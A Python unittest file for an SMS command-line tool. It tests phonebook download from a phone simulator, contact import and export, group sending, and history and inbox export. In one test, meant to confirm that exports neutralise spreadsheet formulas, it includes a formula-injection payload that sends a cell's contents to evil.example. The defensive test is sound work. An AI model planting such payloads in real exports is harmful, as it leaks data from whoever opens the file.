"""zandusms-cli phonebook and test-port against the phone simulator (Windows
build under Wine): a phone book of a few hundred entries with names in many
scripts printed exactly as the phone holds them, storing it with --save, and
the maker's name. The stored contacts: an import tried and done, the list,
a group's export, sending to a group; the History exported."""
import csv
import json
import os
import tempfile
import unittest

import zandu
from zandu import (BUILD, Phone, cli, decode_submit, lines, port_link, settings_export, settings_list,
                   settings_restore, settings_set_list)

NAMES = ["Anna", "Jürgen Groß", "Zoë", "Łukasz", "Ana María", "Søren", 'Dr. "Bob" Smith, Jr.',
         "Δημήτρης", "Иван Петров", "王伟", "محمد", "שרה", "Back\\slash", "Emoji 😀 Party", "Ağaç",
         "Nguyễn Văn An", "पूजा", "Comma, Quote\"", "x" * 40]


def build_phonebook(size):
    """Locations 1..size: (number, name) or None for an empty location."""
    locations = []
    for i in range(1, size + 1):
        if i % 9 == 0:
            locations.append(None)
        elif i == 5:
            locations.append(("5550005", ""))  # no name
        else:
            number = ("+49170%07d" if i % 2 else "0301%06d") % i
            locations.append((number, "%s %d" % (NAMES[i % len(NAMES)], i)))
    return locations


@unittest.skipUnless(BUILD == "windows", "the port commands run under Wine")
class Phonebook(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.saved = settings_export()
        cls.tmp = tempfile.TemporaryDirectory()
        cls.locations = build_phonebook(320)
        cls.book = os.path.join(cls.tmp.name, "book.txt")
        with open(cls.book, "w", encoding="utf-8", newline="\n") as f:
            for location in cls.locations:
                f.write("%s\t%s\n" % location if location else "\n")
        cls.entries = [loc for loc in cls.locations if loc]

    @classmethod
    def tearDownClass(cls):
        settings_restore(cls.saved)
        cls.tmp.cleanup()

    def download(self, *args):
        with Phone(port_link("COM5"), "--phonebook-file", self.book) as phone:
            out = cli("phonebook", "--port", "COM5", *args)
        self.assertEqual(out.returncode, 0, out.stderr)
        return out, phone

    def test_entries_as_the_phone_holds_them(self):
        out, phone = self.download()
        status = lines(out.stdout)
        self.assertEqual(status[:3], ["Connecting...", "Handshaking...", "Downloading phonebook..."])
        self.assertEqual(status[-1], "Phonebook downloaded")
        self.assertEqual(status[3:-1], ["%s\t%s" % (name, number) for number, name in self.entries])
        self.assertGreater(len(self.entries), 250)
        # Read in UTF-8, twenty locations at a time.
        commands = phone.commands()
        self.assertEqual(commands[:4], ["AT", "ATE0", 'AT+CSCS="UTF-8"', "AT+CPBR=?"])
        self.assertEqual(commands[4:], ["AT+CPBR=%d,%d" % (a, min(a + 19, 320)) for a in range(1, 321, 20)])

    def test_save_stores_the_contacts_for_the_window(self):
        settings_set_list("Contacts", ["Old", "1"])
        settings_set_list("Numbers", [" 0123"])
        self.download("--save")
        stored = settings_list("Contacts")
        expected = []
        for number, name in self.entries:
            expected += [name or number, number]  # a nameless entry keeps its place under its number
        self.assertEqual(stored, expected)
        self.assertEqual(settings_list("Numbers"), [" 0123"])  # nothing else is touched

    def test_without_save_the_settings_stay_as_they_are(self):
        settings_set_list("Contacts", ["Old", "1"])
        before = settings_export()
        self.download()
        self.assertEqual(settings_export(), before)

    def test_an_empty_phone_book(self):
        empty = os.path.join(self.tmp.name, "empty.txt")
        with open(empty, "w") as f:
            f.write("\n" * 30)  # thirty empty locations
        with Phone(port_link("COM5"), "--phonebook-file", empty) as phone:
            out = cli("phonebook", "--port", "COM5", "--save")
        self.assertEqual(out.returncode, 0, out.stderr)
        self.assertEqual(lines(out.stdout), ["Connecting...", "Handshaking...", "Downloading phonebook...",
                                             "Phonebook downloaded"])
        self.assertEqual(phone.commands()[-2:], ["AT+CPBR=1,20", "AT+CPBR=21,30"])
        self.assertIsNone(settings_list("Contacts"))  # as the window stores an empty phone book

    def test_a_phone_book_that_cannot_be_stored(self):
        # Another process holds the settings' lock longer than the tool waits for it.
        settings_set_list("Contacts", ["Old", "1"])
        with zandu.SettingsLock(12000), Phone(port_link("COM5")):
            out = cli("phonebook", "--port", "COM5", "--save")
        self.assertEqual(out.returncode, 6, out.stderr)
        self.assertEqual(lines(out.stdout)[-1], "Phonebook downloaded")
        self.assertIn("cannot store the phone book in the settings (error 258): ", out.stderr)
        self.assertEqual(settings_list("Contacts"), ["Old", "1"])

    def test_contacts_import_list_export_send_and_history_export(self):
        self.addCleanup(lambda: [zandu.settings_delete_value(n) for n in ("ContactGroups", "OwnContacts", "NewHistory")])
        settings_set_list("Contacts", ["Anna", "+4917012345", "Ben", "0301234"])
        settings_set_list("NewHistory", [" Anna", " +4917012345", " 08/12/2026 10:15:02", ' Hi, "you"\nthere',
                                         " ", " 555", " 09/12/2026 11:00:00", " Two"])
        path, vcf, csv = (os.path.join(self.tmp.name, n) for n in ("in.csv", "team.vcf", "history.csv"))
        with open(path, "w", encoding="utf-8-sig", newline="") as f:
            f.write("First Name;Last Name;Mobile Phone;Categories\r\nAnna;;+4917012345;Team\r\n"
                    "Cleo;Day;0170 555;Team\r\nDan;;;Team\r\nEve;;12a;\r\n")
        plan = ["4 contacts: 1 new, 1 updated, 2 refused", "line 4: no number"]
        out = cli("contacts", "import", path, "--dry-run")
        self.assertEqual((out.returncode, lines(out.stdout)[:2]), (0, plan), out.stderr)
        self.assertTrue(lines(out.stdout)[2].startswith("line 5: cannot send to '12a'"))
        self.assertEqual(settings_list("Contacts"), ["Anna", "+4917012345", "Ben", "0301234"])
        self.assertEqual(lines(cli("contacts", "import", path).stdout)[:2], plan)
        self.assertEqual(lines(cli("contacts", "list").stdout), [
            "Anna\t+4917012345\tTeam\town", "Ben\t0301234\t\tphone", "Cleo Day\t0170 555\tTeam\town"])
        self.assertEqual(lines(cli("contacts", "export", vcf, "--group", "team").stdout), ["2 contacts exported to " + vcf])
        self.assertEqual(lines(cli("contacts", "import", vcf, "--dry-run").stdout),
                         ["2 contacts: 0 new, 0 updated, 2 unchanged, 0 refused"])
        self.assertEqual(cli("contacts", "export", vcf, "--group", "Band").returncode, 3)
        self.assertEqual(lines(cli("contacts", "list", "--json").stdout)[1],
                         '{"name":"Ben","number":"0301234","groups":[],"origin":"phone"}')
        # A file no import can read leaves everything as it was, with exit code 3.
        binary = os.path.join(self.tmp.name, "photo.jpg")
        with open(binary, "wb") as f:
            f.write(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" * 100)
        before = settings_export()
        out = cli("contacts", "import", binary)
        self.assertEqual((out.returncode, out.stdout), (3, ""))
        self.assertIn("the file is not text (it holds NUL bytes)", out.stderr)
        self.assertEqual(settings_export(), before)
        # Outlook's ANSI export: read, and the dry run says how.
        with open(path, "wb") as f:
            f.write("Vorname;Nachname;Mobiltelefon;Fax geschäftlich\r\nJürgen;Groß;0171 2;0301\r\n".encode("cp1252"))
        self.assertEqual(lines(cli("contacts", "import", path, "--dry-run").stdout), [
            "1 contact: 1 new, 0 updated, 0 refused", "read as Windows-1252", "1 fax or pager number not imported"])
        with Phone(port_link("COM5")) as phone:
            out = cli("send", "--port", "COM5", "--to", "Team; 0170555", "--text", "Hi")
        self.assertEqual(out.returncode, 0, out.stderr)
        self.assertEqual([decode_submit(p["pdu"])["Number"] for p in phone.events("pdu")], ["+4917012345", "0170555"])

        self.assertEqual(lines(cli("history", "export", csv).stdout), ["2 messages exported to " + csv])
        with open(csv, "rb") as f:
            data = f.read().decode("utf-8")
        zone = data.split("\r\n")[1].split(",")[0][-6:]
        self.assertRegex(zone, r"^[+-]\d\d:\d\d$")
        self.assertEqual(data, "\ufeffTime,Number,Name,State,Text\r\n"
                               '08/12/2026 10:15:02 %s,\'+4917012345,Anna,Sent,"Hi, ""you""\nthere"\r\n'
                               "09/12/2026 11:00:00 %s,555,,Sent,Two\r\n" % (zone, zone))

    def test_no_export_holds_a_formula(self):
        """Every first character a spreadsheet runs as a formula, in each of
        the three exports, is written after a quote, which the import takes
        off again; inbox export, which only reads, leaves a damaged inbox
        file where it is and names the fault, not the bytes."""
        self.addCleanup(lambda: [zandu.settings_delete_value(n) for n in ("OwnContacts", "NewHistory")])
        texts = ['=HYPERLINK("http://evil.example/?leak="&B3,"Click me")', "+SUM(1;2)", "-2+3", "@A1", "\tTab",
                 "\rCR", "'=quoted", "+4917012345"]
        names = [t for t in texts if ";" not in t and t[0] not in "\t\r"]  # the ones a contact may be named
        settings_set_list("Contacts", [x for name in names for x in (name, "+4917012345")])
        settings_set_list("OwnContacts", [" " + x for name in names for x in (name, "+4917012345")])
        settings_set_list("NewHistory", [" " + x for text in texts for x in (text, text, "08/12/2026 10:15:02", text)])
        message = {"sender": "=1+2", "time": "", "encoding": "gsm7", "parts": []}
        with zandu.SavedInbox() as inbox:
            with open(inbox.path, "w", encoding="utf-8") as f:
                json.dump({"format": "Zandu SMS inbox", "version": 1,
                           "messages": [dict(message, text=t, parts=[{"part": 1, "key": "%016x" % i, "time": "",
                                                                      "text": t}]) for i, t in enumerate(texts)]}, f)
            paths = [os.path.join(self.tmp.name, n) for n in ("contacts.csv", "history.csv", "inbox.csv")]
            for command, path, count in zip((["contacts"], ["history"], ["inbox"]), paths,
                                            (len(names), len(texts), len(texts))):
                out = cli(*command, "export", path)
                self.assertEqual((out.returncode, out.stdout), (0, "%d %s exported to %s\n" % (
                    count, "contacts" if command == ["contacts"] else "messages", path)), out.stderr)
                with open(path, encoding="utf-8-sig", newline="") as f:
                    rows = list(csv.reader(f))
                cells = [c for row in rows for c in row]
                self.assertFalse([c for c in cells if c and c[0] in "=+-@\t\r"], command)
                expected = names if command == ["contacts"] else texts
                # Each contact's name and number; each record's name, number and text; each message's text.
                self.assertEqual(len([c for c in cells if c[1:] in expected and c[0] == "'"]),
                                 {"contacts": 2 * len(names), "history": 3 * len(texts),
                                  "inbox": len(texts)}[command[0]], (command, cells))
            out = cli("contacts", "import", paths[0], "--dry-run")
            self.assertEqual(lines(out.stdout), ["%d contacts: 0 new, 0 updated, %d unchanged, 0 refused" % (
                len(names), len(names))], out.stderr)

            with open(inbox.path, "w", encoding="utf-8") as f:
                f.write(json.dumps({"format": "Zandu SMS inbox", "version": 1,
                                    "messages": [dict(message, text="x", total=1, reference=1,
                                                      reference_bits=8)]}).replace('"total": 1', '"total": 1e30'))
            out = cli("inbox", "export", paths[2])
            self.assertEqual(out.returncode, 6)
            self.assertIn('is damaged (message 1: "total" is not a whole number from 1 to 255)', out.stderr)
            self.assertNotIn("1e30", out.stderr)
            self.assertTrue(os.path.exists(inbox.path))
            self.assertFalse([n for n in os.listdir(os.path.dirname(inbox.path)) if n.startswith("inbox.json.d")])

    def test_an_earlier_versions_values_move_on_purpose(self):
        """Values of a user's an earlier version kept machine-wide are not read,
        until the user moves them into their own key; an administrator's
        settings stay machine-wide."""
        machine = zandu.MACHINE_SETTINGS_KEY
        saved = settings_export(machine)
        self.addCleanup(settings_restore, saved, machine)
        zandu.settings_delete(machine)
        settings_set_list("Contacts", ["Anna", "0123"], key=machine)
        zandu.settings_set_string("Server", "https://sms.example.org", key=machine)
        zandu.settings_delete_value("Contacts")
        self.assertEqual(lines(cli("contacts", "list").stdout), [])
        self.assertEqual(lines(cli("settings", "move-from-machine", "--dry-run").stdout), ["Contacts: would be moved"])
        out = cli("settings", "move-from-machine")
        self.assertEqual((out.returncode, lines(out.stdout)), (0, ["Contacts: moved"]), out.stderr)
        self.assertEqual(lines(cli("contacts", "list").stdout), ["Anna\t0123\t\tphone"])
        self.assertIsNone(settings_list("Contacts", key=machine))
        self.assertIn('"Server"="https://sms.example.org"', settings_export(machine))

    def test_the_makers_name(self):
        with Phone(port_link("COM12"), "--maker", "ACME Mobile 3000") as phone:
            out = cli("test-port", "--port", "COM12")
        self.assertEqual(out.returncode, 0, out.stderr)
        self.assertEqual(lines(out.stdout), ["Connecting...", "Handshaking...",
                                             "Device on COM12 is a(n) ACME Mobile 3000; model: PhoneSim 1; SIM: ready; "
                                             "signal 4 of 5; network: registered (home); service centre: +4917010000"])
        self.assertEqual(phone.commands(), ["AT", "ATE0", "AT+CGMI", "AT+CGMM", "AT+CPIN?", "AT+CSQ", "AT+CREG?",
                                            "AT+CSCA?"])


if __name__ == "__main__":
    zandu.main()
